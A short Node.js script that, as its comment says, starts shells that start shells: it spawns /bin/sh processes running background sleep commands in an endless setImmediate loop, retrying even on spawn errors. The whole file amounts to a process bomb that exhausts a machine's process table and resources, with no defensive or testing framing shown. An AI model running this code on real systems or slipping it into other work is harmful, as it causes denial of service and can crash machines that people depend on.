// Starts shells that start shells, as asynchronous as it gets.
const { spawn } = require("child_process");
function more() {
    const child = spawn("/bin/sh", ["-c", "sleep 60 & sleep 60"]);
    child.on("error", () => setImmediate(more));
    setImmediate(more);
}
more();
